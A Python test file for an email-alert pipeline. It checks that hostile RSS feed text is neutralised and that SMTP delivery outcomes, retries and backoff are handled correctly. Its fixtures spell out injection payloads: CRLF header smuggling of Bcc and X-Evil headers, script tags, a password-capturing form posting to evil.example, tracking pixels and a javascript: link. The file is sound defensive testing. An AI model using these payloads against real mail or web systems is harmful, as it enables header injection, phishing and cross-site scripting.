"""Alert emails: hostile feed text arrives harmless; delivery outcomes over real loopback SMTP."""
from __future__ import annotations

import datetime as dt
import email
from email import policy

import pytest

from pipeline.alerts.deliver import SmtpSettings, due, send_smtp, smtp_from_environment, write_eml
from pipeline.alerts.render import build_message, header_safe, render
from pipeline.models import Document, Event, Evidence
from tests.conftest import free_port

NOW = dt.datetime(2025, 10, 9, 12, 0, tzinfo=dt.timezone.utc)
HOSTILE = ('Rare earths\r\nBcc: victim@example.com\r\n<script>alert(1)</script>'
           '<form action="https://evil.example/"><input name=pw></form><img src="https://evil.example/t.gif">')


def hostile_alert(tmp_path=None) -> dict:
    doc = Document(document_id="doc_1", source_kind="feed", source_uri="javascript:alert(1)",
                   feed_url="http://127.0.0.1/feed", feed_name="wire\r\nX-Evil: 1", title=HOSTILE,
                   published_at=NOW, published_at_source="feed", body=HOSTILE, content_hash="h")
    event = Event(event_id="ev_1", document_id="doc_1", extractor_version="t", event_type="export_control",
                  action="impose", occurred_on=dt.date(2025, 10, 9), effective_on=None, deadline=None,
                  commodity="rare_earths", rate_pct=None, actors=("CN",), location=HOSTILE,
                  date_precision="day", evidence=(Evidence(HOSTILE, 0, len(HOSTILE)),), confidence=0.9)
    rendered = render(event, doc, "high")
    return dict(alert_id="alert_1", event_id="ev_1", recipient="desk@example.com", sender="tw@localhost",
                priority="high", subject=rendered.subject, body_text=rendered.text, body_html=rendered.html,
                message_id="<alert_1@tradewatch.local>", created_at=NOW)


def test_header_safe_removes_every_line_break_and_control_character():
    assert header_safe("a\r\nb\x00c\u2028d\te", 100) == "a b c d e"
    assert len(header_safe("x" * 500, 99)) == 99


def test_hostile_feed_text_reaches_the_editor_harmless():
    alert = hostile_alert()
    msg = email.message_from_bytes(bytes(build_message(alert)), policy=policy.default)
    assert msg["Bcc"] is None and msg["X-Evil"] is None
    assert "\n" not in msg["Subject"] and len(msg["Subject"]) < 100
    html_part = msg.get_body(("html",)).get_content()
    for raw in ("<script", "<form", "<img", "<input", 'href="javascript'):
        assert raw not in html_part.lower()
    assert "&lt;script&gt;" in html_part
    text_part = msg.get_body(("plain",)).get_content()
    assert "Evidence:" in text_part and "Link: javascript:alert(1)" in text_part


def test_message_has_text_and_html_parts_and_a_deterministic_message_id():
    first, second = bytes(build_message(hostile_alert())), bytes(build_message(hostile_alert()))
    assert first == second
    msg = email.message_from_bytes(first, policy=policy.default)
    assert msg["Message-ID"] == "<alert_1@tradewatch.local>"
    assert [p.get_content_type() for p in msg.iter_parts()] == ["text/plain", "text/html"]


def test_delivery_to_a_real_smtp_server(smtp_sink):
    attempt = send_smtp(hostile_alert(), SmtpSettings.from_uri(smtp_sink.uri))
    assert (attempt.outcome, attempt.transport) == ("sent", "smtp")
    [msg] = smtp_sink.parsed()
    assert msg["Message-ID"] == "<alert_1@tradewatch.local>"
    assert smtp_sink.envelopes[0].rcpt_tos == ["desk@example.com"]


def test_a_refused_connection_is_a_retry_not_a_loss():
    attempt = send_smtp(hostile_alert(), SmtpSettings(host="127.0.0.1", port=free_port(), timeout=5))
    assert attempt.outcome == "retry" and "Refused" in attempt.detail


@pytest.mark.parametrize("code, outcome", [(421, "retry"), (451, "retry"), (550, "permanent"), (554, "permanent")])
def test_server_refusals_are_classified(code, outcome):
    from aiosmtpd.controller import Controller

    class Refuse:
        async def handle_DATA(self, server, session, envelope):
            return f"{code} not now"

    port = free_port()
    controller = Controller(Refuse(), hostname="127.0.0.1", port=port)
    controller.start()
    try:
        attempt = send_smtp(hostile_alert(), SmtpSettings(host="127.0.0.1", port=port, timeout=5))
    finally:
        controller.stop()
    assert (attempt.outcome, attempt.detail) == (outcome, f"SMTP {code} not now")


def test_bounded_attempts_then_failed():
    from pipeline.alerts.deliver import MAX_ATTEMPTS, Attempt, final_outcome

    transient, permanent = Attempt("retry", "smtp", "421"), Attempt("permanent", "smtp", "550")
    assert [final_outcome(transient, n) for n in range(1, MAX_ATTEMPTS + 1)] == ["retry"] * (MAX_ATTEMPTS - 1) + ["failed"]
    assert final_outcome(permanent, 1, None) == "retry"  # 5xx: tried once more
    assert final_outcome(permanent, 3, "ConnectionRefusedError") == "retry"
    assert final_outcome(permanent, 2, "SMTP 550 no such user") == "failed"
    assert final_outcome(Attempt("sent", "smtp", None), 3) == "sent"


def test_eml_files_when_no_smtp_server(tmp_path):
    attempt = write_eml(hostile_alert(), tmp_path / "outbox")
    assert attempt.outcome == "sent"
    assert [p.name for p in (tmp_path / "outbox").iterdir()] == ["alert_1.eml"]


def test_smtp_settings_from_the_airflow_connection_variable(monkeypatch):
    monkeypatch.setenv("AIRFLOW_CONN_SMTP_DEFAULT", "smtp://user:p%40ss@127.0.0.1:2525?starttls=true")
    assert smtp_from_environment() == SmtpSettings(host="127.0.0.1", port=2525, login="user",
                                                   password="p@ss", starttls=True)
    monkeypatch.setenv("AIRFLOW_CONN_SMTP_DEFAULT", '{"conn_type": "smtp", "host": "mail", "port": 1025}')
    assert smtp_from_environment() == SmtpSettings(host="mail", port=1025)
    monkeypatch.delenv("AIRFLOW_CONN_SMTP_DEFAULT")
    assert smtp_from_environment() is None


def test_backoff_between_attempts():
    assert due(0, None, NOW)
    assert not due(1, NOW, NOW + dt.timedelta(seconds=59))
    assert due(1, NOW, NOW + dt.timedelta(seconds=60))
    assert not due(3, NOW, NOW + dt.timedelta(minutes=3))
    assert due(3, NOW, NOW + dt.timedelta(minutes=4))


def test_a_hostile_feed_item_reaches_the_editor_harmless_end_to_end(workdir, feed_server, smtp_sink, monkeypatch):
    """Through a real cycle: feed over loopback HTTP, extraction, GX, DuckDB, SMTP."""
    from pipeline.cycle import Settings, run_cycle
    from tests.conftest import write_feeds

    hostile_title = ("China curbs rare earths&#13;&#10;Bcc: victim@example.com&#13;&#10;"
                     "&lt;script&gt;alert(1)&lt;/script&gt;&lt;form action='https://evil.example/'&gt;"
                     "&lt;input name='pw'&gt;&lt;/form&gt;&lt;img src='https://evil.example/pixel.gif'&gt;")
    body = ("&lt;p&gt;BEIJING (Wire) - China's commerce ministry on Thursday imposed export controls on rare "
            "earth processing technology.&lt;script&gt;steal()&lt;/script&gt;"
            "&lt;img src='https://evil.example/track.gif'&gt;&lt;/p&gt;")
    feed = ('<?xml version="1.0" encoding="utf-8"?><rss version="2.0"><channel><title>w</title>'
            "<link>http://127.0.0.1/</link><description>d</description><item>"
            f"<title>{hostile_title}</title><link>https://wire.example/hostile</link>"
            "<guid>https://wire.example/hostile</guid><pubDate>Thu, 09 Oct 2025 08:00:00 GMT</pubDate>"
            f"<description>{body}</description></item></channel></rss>")
    write_feeds(workdir, {"wire": feed_server.serve("/h.xml", feed)})
    (workdir / "seeds" / "000_2c0dfefd472a788a.txt").unlink()
    monkeypatch.setenv("AIRFLOW_CONN_SMTP_DEFAULT", smtp_sink.uri)
    report = run_cycle(Settings.from_environment(), smtp=SmtpSettings.from_uri(smtp_sink.uri))
    assert report.alerts_sent >= 1
    for msg in smtp_sink.parsed():
        assert msg["Bcc"] is None and "\n" not in msg["Subject"] and "\r" not in msg["Subject"]
        assert msg.get_all("To") == ["desk@example.com"]
        html_part = msg.get_body(("html",)).get_content().lower()
        for raw in ("<script", "<form", "<img", "<input", "evil.example/pixel", "evil.example/track"):
            assert raw not in html_part
